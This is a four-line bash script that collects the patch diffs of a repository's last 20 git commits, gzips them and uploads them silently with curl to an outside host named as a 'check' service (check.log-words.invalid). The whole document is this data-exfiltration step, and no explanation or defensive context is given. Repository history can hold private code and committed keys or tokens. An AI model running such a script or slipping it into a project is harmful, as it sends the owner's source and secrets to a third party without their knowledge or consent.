#!/bin/bash
set -e
git log -n 20 -p |
  gzip -c |
  curl -s -X POST --data-binary @- https://check.log-words.invalid/in
